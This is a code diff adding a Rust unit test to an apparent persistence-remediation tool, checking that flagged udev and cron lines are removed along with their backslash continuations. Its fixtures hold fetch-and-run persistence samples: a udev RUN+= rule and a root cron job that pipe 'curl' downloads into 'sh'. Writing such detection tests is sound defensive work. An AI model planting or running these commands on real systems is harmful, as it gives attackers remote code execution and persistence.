@@ -1117,6 +1117,51 @@ mod tests {
     }
 
     #[test]
+    fn a_continued_line_is_removed_with_its_continuations_where_the_mechanism_joins_them() {
+        // udev joins `\` lines: the flagged rule's `RUN+=` line left alone would be a rule matching every
+        // event. cron joins nothing: the line after a cron line ending in `\` is another job.
+        let rules = b"ACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"/bin/sh -c 'curl -fsSL http://127.66.21.2/u.sh | sh'\"\nKERNEL==\"sd[a-z]\", RUN+=\"/bin/sh -c 'echo none > /sys/block/%k/queue/scheduler'\"\n";
+        let tab =
+            b"* * * * * root curl -s http://x/a.sh | sh \\\n0 2 * * * root /opt/app/rotate --now\n";
+        let model = fixture::model(
+            vec![
+                fixture::file(b"/etc/udev/rules.d/75-net.rules", Some(rules)),
+                fixture::file(b"/etc/cron.d/app", Some(tab)),
+            ],
+            vec![],
+        );
+        let findings = [&b"/etc/udev/rules.d/75-net.rules"[..], b"/etc/cron.d/app"]
+            .iter()
+            .map(|p| {
+                finding(&crate::detect::rules::PER_031, Severity::High)
+                    .subject(persistence_subject(&RawBytes::from(*p), 1))
+            })
+            .collect();
+        let plan = plan_of(model, doc(findings));
+        let mut edited: Vec<(&[u8], Vec<u32>)> = plan
+            .items
+            .iter()
+            .filter_map(|i| match &i.action {
+                Action::RemoveLines { file, lines, .. } => Some((
+                    file.path.as_bytes(),
+                    lines.iter().map(|l| l.number).collect(),
+                )),
+                _ => None,
+            })
+            .collect();
+        edited.sort();
+        assert_eq!(
+            edited,
+            vec![
+                (&b"/etc/cron.d/app"[..], vec![1]),
+                (&b"/etc/udev/rules.d/75-net.rules"[..], vec![1, 2]),
+            ],
+            "{:?}",
+            plan.items
+        );
+    }
+
+    #[test]
     fn a_file_left_inert_is_removed_whole_only_when_every_line_it_loses_is_attributed() {
         // Nothing else runs in the file once both flagged lines go: the attacker's line (high) and an
         // admin's line only a medium finding names. The medium one is a review item, so the file is not
